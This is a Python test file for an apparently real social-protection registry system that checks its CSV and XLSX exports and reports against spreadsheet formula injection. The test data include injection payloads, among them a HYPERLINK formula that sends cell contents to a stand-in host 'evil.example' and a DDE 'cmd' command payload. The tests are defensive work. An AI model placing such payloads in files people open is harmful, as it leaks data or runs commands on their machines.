"""No file SPMIS writes for people carries a live formula from user text (issue 12, finding 2).

Hostile cells (``=HYPERLINK(...)``, ``=1+1``, ``+``, ``-``, ``@``, tab, carriage return, a
leading quote) go into the registry through an import; every export and report kind is written
and read back with openpyxl and the csv module: no cell is a formula or starts with a trigger
(plain numbers aside). A re-import of an export gives the same registry."""

from __future__ import annotations

import csv
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from spmis.auth.model import SYSTEM
from spmis.context import AppContext
from spmis.formula_guard import TRIGGERS
from spmis.linkage.coverage import coverage_gap
from spmis.linkage.match import match_list, parse_mapping
from spmis.registry.exporter import export_enterprises, export_households
from spmis.registry.fileformat import ENTERPRISE_COLUMNS, HOUSEHOLD_COLUMNS
from spmis.registry.importer import import_enterprises, import_households
from spmis.registry.model import IdentifierType
from spmis.registry.store import household, person
from tests.conftest import MigratedTemplates, make_settings, migrated_database

VILLAGE = "12010101"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=a quote typed by the user",
    "'plain leading quote",
]
PHONE = "+85512345678"  # E.164, a plain number: written as it is, read back exactly
NUMBER = re.compile(r"[+-]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][+-]?[0-9]+)?")


def assert_no_formula(path: Path) -> int:
    """Every cell of ``path`` (CSV or XLSX): never a formula, never a text that a spreadsheet
    would run. Returns the number of cells looked at."""
    cells: list[object] = []
    if path.suffix == ".xlsx":
        book = load_workbook(path)  # not read-only: data_type tells formulas apart
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {cell.coordinate}: formula"
                    cells.append(cell.value)
        book.close()
    else:
        with path.open(encoding="utf-8", newline="") as fh:
            cells = [c for r in csv.reader(fh) for c in r]
    for value in cells:
        if isinstance(value, str) and value:
            assert not (value[0] in TRIGGERS and not NUMBER.fullmatch(value)), (
                f"{path.name}: live cell {value!r}")
    return len(cells)


def hostile_households(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=HOUSEHOLD_COLUMNS)
        w.writeheader()
        for i, text in enumerate(HOSTILE):
            w.writerow({"household_key": f"H{i}", "village_code": VILLAGE,
                        "address_detail": text, "person_key": f"P{i}", "relationship": "head",
                        "family_name_latin": "Sok", "given_name_latin": "Dara", "sex": "F",
                        "date_of_birth": f"1980-01-{i + 1:02d}", "occupation": text,
                        "phone": PHONE if i == 0 else "",
                        "national_id": f"10020030{i}"})
    return path


def hostile_enterprises(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=ENTERPRISE_COLUMNS)
        w.writeheader()
        for i, text in enumerate(HOSTILE):
            w.writerow({"enterprise_key": f"E{i}", "name_latin": f"Co {i}", "name_km": text,
                        "village_code": VILLAGE})
    return path


def stored(ctx: AppContext) -> list[tuple[object, ...]]:
    with ctx.engine.connect() as conn:
        return [tuple(r) for r in conn.execute(
            select(household.c.external_key, household.c.address_detail,
                   person.c.external_key, person.c.occupation)
            .join(person, person.c.household_id == household.c.id)
            .order_by(person.c.external_key))]  # the file's order: P0..P8 (ids need not be)


@pytest.fixture
def registry(ctx: AppContext, tmp_path: Path) -> AppContext:
    ents = import_enterprises(ctx, hostile_enterprises(tmp_path / "ent.csv"), SYSTEM,
                              progress=False)
    hh = import_households(ctx, hostile_households(tmp_path / "hh.csv"), SYSTEM, progress=False)
    assert (ents.rows_rejected, hh.rows_rejected) == (0, 0)
    assert [r[1] for r in stored(ctx)][:6] == ['=HYPERLINK("http://evil.example/?d="&A1,"click")',
                                                "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0",
                                                "@SUM(1,2)", "=1+1"]  # tab stripped on import
    return ctx


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_carry_no_formula_and_round_trip(registry: AppContext, tmp_path: Path,
                                                 suffix: str,
                                                 migrated_templates: MigratedTemplates) -> None:
    ctx = registry
    out = tmp_path / f"households{suffix}"
    export_households(ctx, out, SYSTEM, include_identifiers=True, reason="formula test")
    assert assert_no_formula(out) > len(HOSTILE) * len(HOUSEHOLD_COLUMNS)
    ent_out = tmp_path / f"enterprises{suffix}"
    export_enterprises(ctx, ent_out, SYSTEM)
    assert_no_formula(ent_out)
    # the same registry takes its own export back unchanged, phone included
    again = import_households(ctx, out, SYSTEM, progress=False)
    assert (again.rows_unchanged, again.rows_rejected) == (len(HOSTILE), 0)
    ents = import_enterprises(ctx, ent_out, SYSTEM, progress=False)
    assert (ents.rows_unchanged, ents.rows_rejected) == (len(HOSTILE), 0)
    # and a fresh registry loaded from the export holds the same values
    with migrated_database("sqlite", tmp_path, migrated_templates) as url:
        fresh = AppContext.create(make_settings(url, tmp_path / "fresh"))
        fresh.cipher = ctx.cipher
        try:
            import_enterprises(fresh, ent_out, SYSTEM, progress=False)
            loaded = import_households(fresh, out, SYSTEM, progress=False)
            assert loaded.rows_rejected == 0
            assert stored(fresh) == stored(ctx)
            second = tmp_path / f"second{suffix}"
            export_households(fresh, second, SYSTEM, include_identifiers=True, reason="test")
            if suffix == ".csv":
                assert second.read_bytes() == out.read_bytes()
                assert PHONE in out.read_text(encoding="utf-8")
        finally:
            fresh.engine.dispose()


def test_reject_report_carries_no_formula(ctx: AppContext, tmp_path: Path) -> None:
    src = hostile_households(tmp_path / "bad.csv")
    text = src.read_text(encoding="utf-8").replace(VILLAGE, "99999999")  # every row rejected
    src.write_text(text, encoding="utf-8")
    rejects = tmp_path / "bad.rejects.csv"
    summary = import_households(ctx, src, SYSTEM, reject_path=rejects, progress=False)
    assert summary.rows_rejected == len(HOSTILE)
    assert_no_formula(rejects)
    with rejects.open(encoding="utf-8", newline="") as fh:
        occupations = [r["occupation"] for r in csv.DictReader(fh)]
    assert occupations[0] == "'" + HOSTILE[0]


def test_linkage_outputs_carry_no_formula(registry: AppContext, tmp_path: Path) -> None:
    listed = tmp_path / "list.csv"
    with listed.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["ref", "surname", "first", "dob"])
        for i, text in enumerate(HOSTILE):
            w.writerow([text, "Sok", "Dara", f"1980-01-{i + 1:02d}"])
    mapping = parse_mapping("ref", ["family_name=surname", "given_name=first",
                                    "date_of_birth=dob"])
    out = tmp_path / "matched.csv"
    match_list(registry, listed, mapping, SYSTEM, out)
    assert assert_no_formula(out) > len(HOSTILE)
    with out.open(encoding="utf-8", newline="") as fh:
        refs = [r["ref"] for r in csv.DictReader(fh)]
    assert refs[1] == "'=1+1"
    gap = tmp_path / "gap.csv"
    coverage_gap(registry, listed, mapping, SYSTEM, gap, id_type=IdentifierType.NSSF_MEMBER)
    assert_no_formula(gap)


def test_dedupe_cli_output_carries_no_formula(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from spmis.cli import app

    listed = tmp_path / "list.csv"
    with listed.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["ref", "surname", "first", "dob"])
        for i, text in enumerate(HOSTILE):
            w.writerow([text, "Sok", "Dara", "1980-01-01" if i < 2 else f"1970-02-{i:02d}"])
    out, pairs = tmp_path / "clusters.csv", tmp_path / "pairs.csv"
    r = CliRunner().invoke(app, ["link", "dedupe", str(listed), "--id-column", "ref",
                                 "--column", "family_name=surname", "--column",
                                 "given_name=first", "--column", "date_of_birth=dob",
                                 "--out", str(out), "--pairs-out", str(pairs)])
    assert r.exit_code == 0, r.output
    assert assert_no_formula(out) >= 2 * len(HOSTILE)
    assert assert_no_formula(pairs) > 4


def test_list_downloads_carry_no_formula(tmp_path: Path) -> None:
    """The lists' CSV and XLSX downloads (``/office/households.csv`` ...; issue 13 #20). Their
    text cells are names, which the registry accepts only in Latin or Khmer letters, and place
    names from the gazetteer: the hostile cells are handed to the two writers directly."""
    from spmis.web.exports import _csv, _xlsx

    header = ["Household number", "Head of household", "Name in Latin letters", "Born"]
    rows: list[list[object]] = [[i, text, text, date(1980, 1, i + 1)]
                                for i, text in enumerate(HOSTILE)]
    as_csv, as_xlsx = tmp_path / "list.csv", tmp_path / "list.xlsx"
    as_csv.write_bytes(_csv(header, rows))
    as_xlsx.write_bytes(_xlsx("Households", header, rows))
    assert assert_no_formula(as_csv) == assert_no_formula(as_xlsx) == 4 * (len(HOSTILE) + 1)
    with as_csv.open(encoding="utf-8-sig", newline="") as fh:
        assert [r[1] for r in csv.reader(fh)][1:3] == ["'" + HOSTILE[0], "'=1+1"]


def test_indicator_report_carries_no_formula(tmp_path: Path) -> None:
    """The staff report of the indicators (``/office/reports.xlsx``, issue 16)."""
    from spmis.indicators.model import Indicator, Published
    from spmis.indicators.report import xlsx_report

    values = [Published(Indicator.AMOUNT.value, text, "2026-11", "12", "F", "KHR", 12)
              for text in HOSTILE]
    out = tmp_path / "report.xlsx"
    out.write_bytes(xlsx_report(values, "en", ""))
    assert assert_no_formula(out) > 2 * len(HOSTILE)
